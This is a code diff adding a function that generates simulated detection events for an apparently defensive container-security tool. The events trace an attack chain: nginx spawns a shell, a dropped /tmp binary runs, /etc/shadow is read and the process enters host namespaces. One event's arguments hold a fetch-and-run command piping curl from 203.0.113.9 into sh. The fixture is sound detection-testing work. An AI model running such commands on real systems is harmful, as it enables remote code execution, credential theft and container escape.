@@ -61,3 +61,17 @@ export function events() {
     ...HOSTILE.map((h, i) => ({ type: 1, pid: 200 + i, comm: h.slice(0, 15), exe: h, args: [h, h], container_id: id(0xbad0 + i), container_name: h })),
   ];
 }
+
+/* What an attack on `web` makes a node tell, in order, up to the host; a name among it is hostile. */
+export function attack(web, at = Date.now()) {
+  const of = (s, f) => ({ time_ns: BigInt(at + s * 1000) * 1_000_000n, container: web, ...f });
+  const nginx = { pid: 40, exe: "/usr/sbin/nginx", args: ["nginx: worker"], container_id: web.id };
+  const sh = { pid: 41, exe: "/bin/sh", args: ["sh", "-c", "id; curl http://203.0.113.9/x | sh"], container_id: web.id };
+  const dropped = { pid: 42, exe: `/tmp/${HOSTILE[0]}`, args: [`/tmp/${HOSTILE[0]}`], container_id: web.id };
+  return [
+    of(0, { rule: "Server program started a shell", tags: ["mitre_initial_access"], output: "nginx started a shell", lineage: [sh, nginx], event: { type: 1, pid: 41, exe: sh.exe, args: sh.args, container_id: web.id }, description: "A server has no business with a shell.", advice: "Look at what it ran, and isolate the container." }),
+    of(3, { rule: "Program run from a directory that anyone can write to", priority: "error", tags: ["mitre_execution"], output: `a program was run: /tmp/${HOSTILE[0]}`, lineage: [dropped, sh, nginx], event: { type: 1, pid: 42, exe: dropped.exe, args: dropped.args, container_id: web.id } }),
+    of(9, { rule: "Password hashes read", priority: "warning", tags: ["mitre_credential_access"], lineage: [dropped, sh, nginx], event: { type: 30, pid: 42, exe: dropped.exe, path: "/etc/shadow", container_id: web.id }, count: 3 }),
+    of(14, { rule: "Process outside of the container entered", tags: ["mitre_privilege_escalation", "T1611"], lineage: [dropped, sh, nginx], event: { type: 30, pid: 42, exe: dropped.exe, path: "/proc/1/ns/mnt", container_id: web.id } }),
+  ];
+}
